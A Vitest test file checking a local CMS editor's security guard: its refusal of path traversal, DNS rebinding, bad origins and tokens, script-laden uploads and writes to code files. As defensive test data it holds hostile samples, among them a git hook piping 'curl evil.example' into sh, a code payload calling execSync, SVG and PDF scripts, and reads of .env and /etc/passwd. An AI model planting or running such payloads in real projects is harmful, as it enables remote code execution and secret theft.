import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CMS_WORDS } from '../../../shared/cms-words';
import { actionProblem, BODY_LIMIT, entryPathProblem, pathProblem } from '../cms-guard';
import { type LocalBackend, startLocalBackend } from '../local-backend';
import { BuildCache } from '../prerender/cache';
import { localeOfAcceptLanguage } from '../upload-words';
import { uploadsFolderProblems } from '../uploads';

const DOCUMENTS = 'src/content/documents/files';

/**
 * A one-page PDF by pdf-lib; `script`: with a JavaScript OpenAction; `padding`: that many more
 * bytes in a stream no page uses (a large report's size).
 */
async function pdf({ script = false, padding = 0 } = {}): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.addPage([420, 595]).drawText('Notice', { x: 40, y: 540, font, size: 18 });
  if (script) {
    document.catalog.set(
      PDFName.of('OpenAction'),
      document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
    );
  }
  if (padding > 0) document.context.register(document.context.stream(new Uint8Array(padding)));
  return Buffer.from(await document.save());
}

const EDITOR = 'http://localhost:8080';

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/**
 * A request with exactly these headers (fetch would not let a test set Host); to `url`'s port on
 * loopback, or over the Unix socket `socketPath` when given.
 */
function send(
  url: string,
  body: unknown,
  headers: Record<string, string>,
  method = 'POST',
  socketPath?: string,
) {
  const target = new URL(url);
  const payload = body === undefined ? '' : JSON.stringify(body);
  return new Promise<Answer>((resolve, reject) => {
    const req = request(
      {
        ...(socketPath ? { socketPath } : { host: '127.0.0.1', port: target.port }),
        path: `${target.pathname}${target.search}`,
        method,
        headers: { 'content-type': 'application/json', ...headers },
      },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => {
          text += chunk;
        });
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }),
        );
      },
    );
    req.on('error', reject);
    req.end(payload);
  });
}

/**
 * The TCP ports process `pid` listens on (IPv4 and IPv6), from /proc: the sockets in its file
 * table matched against the kernel's tables of listening sockets (state 0A).
 */
function listeningPorts(pid: number): number[] {
  const inodes = new Set<string>();
  for (const fd of readdirSync(`/proc/${pid}/fd`)) {
    try {
      const target = readlinkSync(`/proc/${pid}/fd/${fd}`);
      if (target.startsWith('socket:[')) inodes.add(target.slice(8, -1));
    } catch {
      // closed meanwhile
    }
  }
  const ports: number[] = [];
  for (const table of ['/proc/net/tcp', '/proc/net/tcp6']) {
    if (!existsSync(table)) continue;
    for (const line of readFileSync(table, 'utf8').split('\n').slice(1)) {
      const fields = line.trim().split(/\s+/);
      const [, local, , state] = fields;
      if (state !== '0A' || !local || !inodes.has(fields[9] ?? '')) continue;
      ports.push(Number.parseInt(local.slice(local.lastIndexOf(':') + 1), 16));
    }
  }
  return ports;
}

describe('the local editor guard (npm run cms)', () => {
  let repo: string;
  let backend: LocalBackend;
  let host: string;
  let cwd: string;
  const logged: string[] = [];
  const editor = (body: unknown, headers: Record<string, string> = {}) =>
    send(backend.url, body, { host, origin: EDITOR, ...headers });
  const branch = 'main';

  beforeAll(async () => {
    repo = mkdtempSync(join(tmpdir(), 'retinova-guard-'));
    mkdirSync(join(repo, 'src/content/pages'), { recursive: true });
    mkdirSync(join(repo, 'public/media/uploads'), { recursive: true });
    mkdirSync(join(repo, '.git/hooks'), { recursive: true });
    mkdirSync(join(repo, 'data'), { recursive: true });
    writeFileSync(join(repo, 'src/content/pages/home.en.yml'), 'title: Home\n');
    writeFileSync(join(repo, 'src/content/collections.ts'), 'export const COLLECTIONS = [];\n');
    // `npm run cms` runs in the checkout, beside its `.env`: so does this test. ORIGIN is one
    // setting decap-server reads (its CORS), so it shows whether the file reached it.
    writeFileSync(
      join(repo, '.env'),
      'SMTP_URL=smtp://user:secret@mail.example\nORIGIN=http://evil.example\n',
    );
    cwd = process.cwd();
    process.chdir(repo);
    writeFileSync(join(repo, 'data/site.db'), 'visitor messages');
    writeFileSync(join(repo, 'package.json'), '{"scripts":{}}\n');
    backend = await startLocalBackend({
      repoDir: repo,
      editorOrigins: [EDITOR],
      log: (line) => logged.push(line),
    });
    host = new URL(backend.url).host;
  }, 30_000);
  afterAll(async () => {
    process.chdir(cwd);
    await backend.stop();
    rmSync(repo, { recursive: true, force: true });
  });

  it('lets the editor read and write content and upload a PNG', async () => {
    const read = await editor({
      action: 'getEntry',
      params: { branch, path: 'src/content/pages/home.en.yml' },
    });
    expect(read.status).toBe(200);
    expect(read.headers['access-control-allow-origin']).toBe(EDITOR);
    expect(JSON.parse(read.body).raw ?? JSON.parse(read.body).data).toContain('title: Home');
    const write = await editor({
      action: 'persistEntry',
      params: {
        branch,
        dataFiles: [{ slug: 'home', path: 'src/content/pages/home.en.yml', raw: 'title: Start\n' }],
        assets: [],
        options: { commitMessage: 'update', useWorkflow: false, status: 'draft' },
      },
    });
    expect(write.status, write.body).toBe(200);
    expect(readFileSync(join(repo, 'src/content/pages/home.en.yml'), 'utf8')).toBe(
      'title: Start\n',
    );
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#123456' } })
      .png()
      .toBuffer();
    const upload = await editor({
      action: 'persistMedia',
      params: {
        branch,
        asset: {
          path: 'public/media/uploads/dot.png',
          content: png.toString('base64'),
          encoding: 'base64',
        },
        options: { commitMessage: 'upload' },
      },
    });
    expect(upload.status, upload.body).toBe(200);
    expect(readFileSync(join(repo, 'public/media/uploads/dot.png')).equals(png)).toBe(true);
    const preflight = await send(backend.url, undefined, { host, origin: EDITOR }, 'OPTIONS');
    expect(preflight.status).toBe(204);
    expect(preflight.headers['access-control-allow-origin']).toBe(EDITOR);
  });

  it('gives decap-server none of the project’s .env (its dotenv reads one from its working folder)', async () => {
    const answer = await send(
      'http://localhost/api/v1',
      { action: 'info' },
      { host: 'localhost', origin: 'http://evil.example' },
      'POST',
      backend.upstream,
    );
    expect(answer.status).toBe(200);
    // With the file loaded, decap-server would answer CORS for .env's ORIGIN.
    expect(answer.headers['access-control-allow-origin']).toBeUndefined();
  });

  it('leaves decap-server no TCP port: every port of these processes is the guard’s or refuses', async () => {
    // decap-server listens on nothing but its socket, of mode 0600 in a folder of mode 0700.
    expect(listeningPorts(backend.pid)).toEqual([]);
    expect(statSync(backend.upstream).mode & 0o777).toBe(0o600);
    expect(statSync(dirname(backend.upstream)).mode & 0o777).toBe(0o700);
    // What a port scan from a local web app or a rebinding page would find: try each port of
    // both processes as decap-server's API, with a foreign Origin and Host, at its root and at
    // decap-server's path. Nothing hands out .env or the store.
    const ports = [...listeningPorts(process.pid), ...listeningPorts(backend.pid)];
    expect(ports).toContain(Number(new URL(backend.url).port));
    const steal = { action: 'getMediaFile', params: { branch, path: '.env' } };
    for (const port of ports) {
      for (const path of ['/api/v1', new URL(backend.url).pathname]) {
        for (const headers of [
          { host: `rebind.example:${port}`, origin: 'http://rebind.example' },
          { host: `localhost:${port}`, origin: 'http://localhost:5173' },
          { host: `127.0.0.1:${port}`, origin: EDITOR },
        ]) {
          const answer = await send(`http://127.0.0.1:${port}${path}`, steal, headers).catch(
            (error: Error) => ({ status: 0, headers: {}, body: error.message }),
          );
          expect(answer.status, `${port}${path} ${headers.host}`).not.toBe(200);
          expect(answer.body).not.toContain('secret');
        }
      }
    }
  });

  it('refuses a wrong Host (a rebound DNS name), a wrong or missing Origin and a wrong token', async () => {
    const info = { action: 'info' };
    const port = new URL(backend.url).port;
    expect((await editor(info, { host: `rebind.example:${port}` })).status).toBe(421);
    expect((await editor(info, { origin: 'http://localhost:3000' })).status).toBe(403);
    expect((await editor(info, { origin: 'null' })).status).toBe(403);
    expect((await send(backend.url, info, { host })).status).toBe(403);
    const wrongToken = backend.url.replace(/\/[^/]+\/api\/v1$/, '/not-the-token/api/v1');
    const stale = await send(wrongToken, info, { host, origin: EDITOR });
    expect(stale.status).toBe(403);
    // The editor's own page with an old token (npm run cms restarted) can read why.
    expect(stale.headers['access-control-allow-origin']).toBe(EDITOR);
    expect(JSON.parse(stale.body).error).toMatch(/token/);
    const noToken = backend.url.replace(/\/[^/]+\/api\/v1$/, '/api/v1');
    expect((await send(noToken, info, { host, origin: EDITOR })).status).toBe(403);
    expect((await editor(info)).status).toBe(200);
  });

  it('refuses every path outside src/content and the uploads folder, and unknown actions', async () => {
    for (const params of [
      { action: 'getMediaFile', params: { branch, path: '.env' } },
      { action: 'getMediaFile', params: { branch, path: 'data/site.db' } },
      { action: 'getEntry', params: { branch, path: 'src/content/../../.env' } },
      { action: 'getEntry', params: { branch, path: '../x' } },
      { action: 'getEntry', params: { branch, path: '/etc/passwd' } },
      { action: 'entriesByFolder', params: { branch, folder: '.', extension: 'yml', depth: 1 } },
      { action: 'getMedia', params: { branch, mediaFolder: '.git' } },
      {
        action: 'deleteFile',
        params: { branch, path: 'package.json', options: { commitMessage: 'x' } },
      },
      { action: 'unpublishedEntries', params: { branch } },
      { action: 'runCommand', params: {} },
    ]) {
      const answer = await editor(params);
      expect(answer.status, JSON.stringify(params)).toBe(422);
      expect(answer.body, JSON.stringify(params)).not.toContain('secret');
      expect(answer.body).not.toContain('visitor messages');
    }
    expect(existsSync(join(repo, 'package.json'))).toBe(true);
  });

  it('refuses writing hooks or package.json, and uploads that are not raster images by content', async () => {
    const write = (path: string, content: Buffer, language = 'zh-CN') =>
      editor(
        {
          action: 'persistMedia',
          params: {
            branch,
            asset: { path, content: content.toString('base64'), encoding: 'base64' },
            options: { commitMessage: 'x' },
          },
        },
        { 'accept-language': language },
      );
    const hook = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
    expect((await write('.git/hooks/pre-commit', hook)).status).toBe(422);
    expect((await write('package.json', Buffer.from('{"scripts":{"test":"evil"}}'))).status).toBe(
      422,
    );
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    );
    const refused = await write('public/media/uploads/logo.png', svg);
    expect(refused.status).toBe(422);
    expect(JSON.parse(refused.body).error).toContain('只能上传 JPEG、PNG、WebP 或 AVIF 图片');
    // The editor reads the answer only with its CORS headers: without them the browser shows
    // "Failed to fetch" instead of the reason.
    expect(refused.headers['access-control-allow-origin']).toBe(EDITOR);
    // A PNG's first bytes in front of a page: the name decides how it is served (Vite's dev
    // server, an asset host), so an image's bytes under another name are refused too.
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const disguised = await write(
      'public/media/uploads/page.html',
      Buffer.concat([png, Buffer.from('<script>alert(1)</script>')]),
      'zh-TW',
    );
    expect(disguised.status).toBe(422);
    expect(JSON.parse(disguised.body).error).toContain('只能上傳 JPEG、PNG、WebP 或 AVIF 圖片');
    expect(existsSync(join(repo, 'public/media/uploads/page.html'))).toBe(false);
    const html = await write(
      'public/media/uploads/page.jpg',
      Buffer.from('<!doctype html><script>x</script>'),
      'en',
    );
    expect(JSON.parse(html.body).error).toContain('Only JPEG, PNG, WebP or AVIF images');
    expect(existsSync(join(repo, '.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(join(repo, 'public/media/uploads/logo.png'))).toBe(false);
    expect(readFileSync(join(repo, 'package.json'), 'utf8')).toBe('{"scripts":{}}\n');
    // Each refusal is logged with the action and the reason, never with what was sent.
    const persisted = logged.filter((line) => line.includes('action "persistMedia"'));
    expect(persisted.length).toBeGreaterThanOrEqual(5);
    expect(persisted.every((line) => / \(422\): /.test(line))).toBe(true);
    expect(logged.join('\n')).not.toMatch(/curl|alert|<svg|<script|evil"/);
  });

  // A 12 MB PDF travels as base64 through the guard and is parsed whole: seconds when busy.
  it('takes clean PDFs into the documents folder, of a report’s size too, and no other PDF', async () => {
    const write = (path: string, content: Buffer, language = 'en') =>
      editor(
        {
          action: 'persistMedia',
          params: {
            branch,
            asset: { path, content: content.toString('base64'), encoding: 'base64' },
            options: { commitMessage: 'x' },
          },
        },
        { 'accept-language': language },
      );
    // Over the images' 10 MB: the request is about 16 MB of base64.
    const report = await pdf({ padding: 12 * 1024 * 1024 });
    const accepted = await write(`${DOCUMENTS}/2026/annual-report-en.pdf`, report);
    expect(accepted.status, accepted.body.slice(0, 200)).toBe(200);
    expect(readFileSync(join(repo, DOCUMENTS, '2026/annual-report-en.pdf')).equals(report)).toBe(
      true,
    );
    // A script in it: refused in the editor's language, nothing written.
    const scripted = await write(
      `${DOCUMENTS}/notice-zh-hant.pdf`,
      await pdf({ script: true }),
      'zh-HK',
    );
    expect(scripted.status).toBe(422);
    expect(JSON.parse(scripted.body).error).toBe(CMS_WORDS['zh-hant'].uploads.pdfJavaScript);
    expect(existsSync(join(repo, DOCUMENTS, 'notice-zh-hant.pdf'))).toBe(false);
    // The media folder takes images only: a clean PDF there is the wrong kind for the folder.
    const misplaced = await write('public/media/uploads/notice.pdf', await pdf());
    expect(misplaced.status).toBe(422);
    expect(JSON.parse(misplaced.body).error).toBe(CMS_WORDS.en.uploads.notImage);
    expect(existsSync(join(repo, 'public/media/uploads/notice.pdf'))).toBe(false);
    // Nor may a PDF go anywhere else under src/content.
    const elsewhere = await write('src/content/pages/notice.pdf', await pdf());
    expect(elsewhere.status).toBe(422);
    expect(existsSync(join(repo, 'src/content/pages/notice.pdf'))).toBe(false);
    // Uploads sent at once are handled one after another, and all of them arrive.
    const versions = await Promise.all(
      ['en', 'zh-hans', 'zh-hant'].map(async (language) =>
        write(`${DOCUMENTS}/2026/interim-${language}.pdf`, await pdf({ padding: 2 * 1024 * 1024 })),
      ),
    );
    expect(versions.map((answer) => answer.status)).toEqual([200, 200, 200]);
    // A body announced over the limit is refused before it is read.
    const huge = await send(
      backend.url,
      { action: 'info' },
      { host, origin: EDITOR, 'content-length': String(BODY_LIMIT + 1) },
    );
    expect(huge.status).toBe(413);
  }, 30_000);
});

describe('the local editor guard: entries', () => {
  let repo: string;
  let backend: LocalBackend;
  const branch = 'main';
  const options = { commitMessage: 'x', useWorkflow: false, status: 'draft' };
  const editor = (body: unknown) =>
    send(backend.url, body, { host: new URL(backend.url).host, origin: EDITOR });

  beforeAll(async () => {
    repo = mkdtempSync(join(tmpdir(), 'retinova-guard-entries-'));
    mkdirSync(join(repo, 'src/content/pages'), { recursive: true });
    mkdirSync(join(repo, 'src/content/schema'), { recursive: true });
    mkdirSync(join(repo, 'public/media/uploads'), { recursive: true });
    writeFileSync(join(repo, 'src/content/pages/home.en.yml'), 'title: Home\n');
    writeFileSync(join(repo, 'src/content/schema/home.ts'), 'export const home = 1;\n');
    writeFileSync(join(repo, 'src/content/collections.ts'), 'export const COLLECTIONS = [];\n');
    backend = await startLocalBackend({ repoDir: repo, editorOrigins: [EDITOR], log: () => {} });
  }, 30_000);
  afterAll(async () => {
    await backend.stop();
    rmSync(repo, { recursive: true, force: true });
  });

  it('writes entries only as .yml or .md files under src/content, and moves none out of their folder', async () => {
    const persist = (dataFile: Record<string, string>) =>
      editor({
        action: 'persistEntry',
        params: { branch, dataFiles: [{ slug: 'x', ...dataFile }], assets: [], options },
      });
    // TypeScript under src/content runs at the next build: as good as a git hook.
    const code = await persist({
      path: 'src/content/collections.ts',
      raw: 'import("node:child_process").then((c) => c.execSync("id"));\n',
    });
    expect(code.status).toBe(422);
    expect(code.headers['access-control-allow-origin']).toBe(EDITOR);
    expect(readFileSync(join(repo, 'src/content/collections.ts'), 'utf8')).toBe(
      'export const COLLECTIONS = [];\n',
    );
    // An entry's text is not an upload: an SVG written as one would skip the image check.
    const svg = await persist({
      path: 'public/media/uploads/logo.svg',
      raw: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    });
    expect(svg.status).toBe(422);
    expect(existsSync(join(repo, 'public/media/uploads/logo.svg'))).toBe(false);
    expect((await persist({ path: 'package.json', raw: '{}' })).status).toBe(422);
    // decap-server moves the whole folder of a renamed entry: not into another folder.
    const moved = await persist({
      path: 'src/content/schema/home.md',
      newPath: 'src/content/pages/home.md',
      raw: 'x',
    });
    expect(moved.status).toBe(422);
    expect(existsSync(join(repo, 'src/content/schema/home.ts'))).toBe(true);
    expect(existsSync(join(repo, 'src/content/pages/home.ts'))).toBe(false);
    const deleted = await editor({
      action: 'deleteFiles',
      params: { branch, paths: ['src/content/collections.ts'], options: { commitMessage: 'x' } },
    });
    expect(deleted.status).toBe(422);
    expect(existsSync(join(repo, 'src/content/collections.ts'))).toBe(true);
    // An article is written as always.
    const article = await persist({ path: 'src/content/pages/about.en.md', raw: '---\n---\nHi\n' });
    expect(article.status, article.body).toBe(200);
    expect(readFileSync(join(repo, 'src/content/pages/about.en.md'), 'utf8')).toBe(
      '---\n---\nHi\n',
    );
  });
});

describe('the guard’s rules', () => {
  it('takes only normalised paths inside the editable folders', async () => {
    expect(pathProblem('src/content/pages/home.en.yml')).toBeUndefined();
    expect(pathProblem('public/media/uploads/a.png')).toBeUndefined();
    for (const path of [
      'src/contentx/a',
      'src/content/./a',
      'src/content//a',
      'src\\content\\a',
      'src/content/a\0',
      '',
      7,
    ]) {
      expect(pathProblem(path), String(path)).toBeDefined();
    }
    expect(
      await actionProblem({
        action: 'persistEntry',
        params: { entry: { path: 'src/content/a.yml', newPath: '.git/config' }, assets: [] },
      }),
    ).toMatch(/outside/);
    expect(entryPathProblem('src/content/news/a.zh-hans.md')).toBeUndefined();
    expect(entryPathProblem('src/content/pages/home.en.yml')).toBeUndefined();
    for (const path of [
      'src/content/index.ts',
      'src/content/a.yml.ts',
      'public/media/uploads/a.md',
      // An upload folder inside src/content takes its kind's files, not entries.
      `${DOCUMENTS}/notes.md`,
    ])
      expect(entryPathProblem(path), path).toBeDefined();
    expect(entryPathProblem('src/content/documents/agm-2026.yml')).toBeUndefined();
    // Uploads may be deleted whatever they are (a bad one must be removable); code may not.
    const remove = (path: string) =>
      actionProblem({ action: 'deleteFile', params: { path, options: {} } });
    expect(await remove('public/media/uploads/old.svg')).toBeUndefined();
    expect(await remove(`${DOCUMENTS}/withdrawn.pdf`)).toBeUndefined();
    expect(await remove('src/content/news/a.en.md')).toBeUndefined();
    expect(await remove('src/content/keys.ts')).toMatch(/not an entry file/);
    // The media library lists the upload folders only.
    const library = (mediaFolder: string) =>
      actionProblem({ action: 'getMedia', params: { mediaFolder } });
    expect(await library('public/media/uploads')).toBeUndefined();
    expect(await library(DOCUMENTS)).toBeUndefined();
    expect(await library('src/content')).toMatch(/not an upload folder/);
  });

  it('takes an upload as its folder’s kind (shared/uploads.ts), and a 50 MB PDF’s request', async () => {
    const upload = async (path: string, content: Buffer) =>
      actionProblem({
        action: 'persistMedia',
        params: { asset: { path, content: content.toString('base64'), encoding: 'base64' } },
      });
    const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    expect(await upload('public/media/uploads/a.PNG', png)).toBeUndefined();
    expect(await upload(`${DOCUMENTS}/a.pdf`, await pdf())).toBeUndefined();
    expect(await upload(`${DOCUMENTS}/a.pdf`, await pdf({ script: true }))).toBe(
      CMS_WORDS.en.uploads.pdfJavaScript,
    );
    expect(await upload('public/media/uploads/a.pdf', await pdf())).toBe(
      CMS_WORDS.en.uploads.notImage,
    );
    expect(await upload('src/content/news/a.pdf', await pdf())).toMatch(/^upload outside/);
    // A 50 MB PDF as base64 in JSON, with room for the rest of the request; not much more.
    expect(BODY_LIMIT).toBeGreaterThan(Math.ceil((50 * 1024 * 1024 * 4) / 3) + 64 * 1024);
    expect(BODY_LIMIT).toBeLessThan(70 * 1024 * 1024);
  });

  it('recognises the editor’s language', () => {
    expect(localeOfAcceptLanguage('zh-TW,zh;q=0.9')).toBe('zh-hant');
    expect(localeOfAcceptLanguage('en-US,en;q=0.9')).toBe('en');
    expect(localeOfAcceptLanguage(undefined)).toBe('zh-hans');
  });
});

describe('the build’s gate on the upload folders', () => {
  it('names every upload that is not a raster image by its bytes, whatever its name', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'retinova-uploads-'));
    const folder = join(dir, 'public/media/uploads');
    mkdirSync(join(folder, 'nested'), { recursive: true });
    const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    writeFileSync(join(folder, 'photo.png'), png);
    writeFileSync(join(folder, 'README.md'), '# Uploads\n');
    writeFileSync(join(folder, 'logo.png'), '<svg xmlns="http://www.w3.org/2000/svg"/>');
    writeFileSync(join(folder, 'nested/page.html'), '<!doctype html>');
    // An image's bytes under a page's name, and a link the copy into the build would follow.
    writeFileSync(join(folder, 'photo.html'), png);
    writeFileSync(join(dir, 'secret.env'), 'SMTP_URL=smtp://user:secret@mail.example\n');
    symlinkSync(join(dir, 'secret.env'), join(folder, 'env.png'));
    // No documents folder yet: nothing to check there.
    const problems = (await uploadsFolderProblems(dir)).map((p) =>
      p.replace(/^.*media\/uploads\//, ''),
    );
    expect(problems.sort()).toEqual([
      expect.stringMatching(/^env\.png: not a plain file/),
      expect.stringMatching(/^logo\.png: Only JPEG, PNG, WebP or AVIF/),
      expect.stringMatching(/^nested\/page\.html: Only JPEG/),
      expect.stringMatching(/^photo\.html: Only JPEG/),
    ]);
    rmSync(dir, { recursive: true, force: true });
  });

  it('names every file of the documents folder that is not a clean PDF', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'retinova-documents-'));
    const folder = join(dir, DOCUMENTS);
    mkdirSync(join(folder, '2026'), { recursive: true });
    writeFileSync(join(folder, 'README.md'), '# Investor documents\n');
    writeFileSync(join(folder, '2026/agm-notice-en.pdf'), await pdf());
    writeFileSync(join(folder, '2026/agm-notice-zh-hant.pdf'), await pdf({ script: true }));
    // An image under a PDF's name, and a PDF under a page's name.
    const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    writeFileSync(join(folder, 'photo.pdf'), png);
    writeFileSync(join(folder, 'report.html'), await pdf());
    const problems = (await uploadsFolderProblems(dir)).map((p) =>
      p.replace(/^.*documents\/files\//, ''),
    );
    expect(problems.sort()).toEqual([
      `2026/agm-notice-zh-hant.pdf: ${CMS_WORDS.en.uploads.pdfJavaScript}`,
      `photo.pdf: ${CMS_WORDS.en.uploads.notPdf}`,
      `report.html: ${CMS_WORDS.en.uploads.notPdf}`,
    ]);

    // With the build cache: the same answers, built and then read from it, and a file whose
    // bytes change is checked again.
    const cacheDir = join(dir, '.cache/build');
    const checked = async () =>
      (await uploadsFolderProblems(dir, BuildCache.open(cacheDir)))
        .map((p) => p.replace(/^.*documents\/files\//, ''))
        .sort();
    expect(await checked()).toEqual(problems.sort());
    expect(readdirSync(join(cacheDir, 'upload'))).toHaveLength(1);
    expect(await checked()).toEqual(problems.sort());
    writeFileSync(join(folder, '2026/agm-notice-en.pdf'), await pdf({ script: true }));
    expect(await checked()).toEqual(
      [`2026/agm-notice-en.pdf: ${CMS_WORDS.en.uploads.pdfJavaScript}`, ...problems].sort(),
    );
    rmSync(dir, { recursive: true, force: true });
  });
});
